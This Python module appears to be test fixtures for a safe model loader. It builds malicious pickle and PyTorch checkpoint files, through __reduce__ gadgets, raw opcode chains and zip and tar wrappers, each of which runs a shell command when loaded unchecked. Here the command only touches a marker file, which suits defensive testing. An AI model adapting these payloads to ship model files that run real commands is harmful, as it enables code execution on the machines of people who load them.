"""Files that strangers could send: they would run code, or are not what they seem."""

from __future__ import annotations

import io
import os
import pickle
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import torch
import torch.utils.collect_env


class Calls:
    """Unpickling this calls a function, and gives its result a state."""

    def __init__(self, function: Any, *args: Any, state: Any = None) -> None:
        self.reduced = function, args, state

    def __reduce__(self) -> tuple[Any, tuple[Any, ...], Any]:
        return self.reduced


def payloads(mark: Path) -> dict[str, Any]:
    """Objects that make the file `mark` when they are unpickled without a check."""
    command, code = f"touch {mark}", f"__import__('os').system('touch {mark}')"
    return {
        "os.system": Calls(os.system, command),
        "eval": Calls(eval, code),
        "exec": Calls(exec, code),
        "pathlib": Calls(Path.touch, mark),
        "numpy object array": np.array([Calls(os.system, command)], dtype=object),
        "torch gadget": Calls(torch.utils.collect_env.run, command),
    }


def pickled(data: Any) -> bytes:
    """A file of torch's, in memory."""
    buffer = io.BytesIO()
    torch.save(data, buffer)
    return buffer.getvalue()


def torch_zip(data_pkl: bytes, storage: bytes = b"", packing: int = zipfile.ZIP_STORED) -> bytes:
    """A torch file around a pickle and a storage of one's own."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", packing) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", b"little")
        archive.writestr("archive/data/0", storage)
        archive.writestr("archive/version", b"3\n")
    return buffer.getvalue()


def exploits(mark: Path, weights: dict[str, Any]) -> dict[str, bytes]:
    """Files that make the file `mark` when they are read without a check, weights beside."""
    found = {}
    for name, payload in payloads(mark).items():
        found[name] = pickled({"state_dict": weights, "meta": payload})
    code = Calls(os.system, f"touch {mark}")
    found["alone"] = pickled(code)
    found["as a name"] = pickled({"state_dict": {**weights, "x": code}})
    legacy = io.BytesIO()
    torch.save({"state_dict": weights, "args": code}, legacy, _use_new_zipfile_serialization=False)
    found["legacy"] = legacy.getvalue()
    for protocol in range(6):
        plain = pickle.dumps({"state_dict": {}, "args": code}, protocol=protocol)
        found[f"bare pickle {protocol}"] = plain
        found[f"zip, protocol {protocol}"] = torch_zip(plain)
    chain = (
        b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(S'os'\ntRS'system'\ntR"
        b"(S'touch %s'\ntR." % bytes(mark)
    )
    found["getattr chain"] = torch_zip(chain)
    found["instance"] = torch_zip(b"(S'touch %s'\nios\nsystem\n." % bytes(mark))
    names = b"\x80\x02cposix\nsystem\nX%s%sq\x00\x85R."
    command = b"touch " + bytes(mark)
    found["posix.system"] = torch_zip(names % (len(command).to_bytes(4, "little"), command))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as archive:  # torch hub unpacks such a one
        archive.writestr("weights.pth", legacy.getvalue())
    found["zipped once more"] = outer.getvalue()
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            content = pickle.dumps(code, protocol=2)
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    found["tar"] = tar.getvalue()
    return found
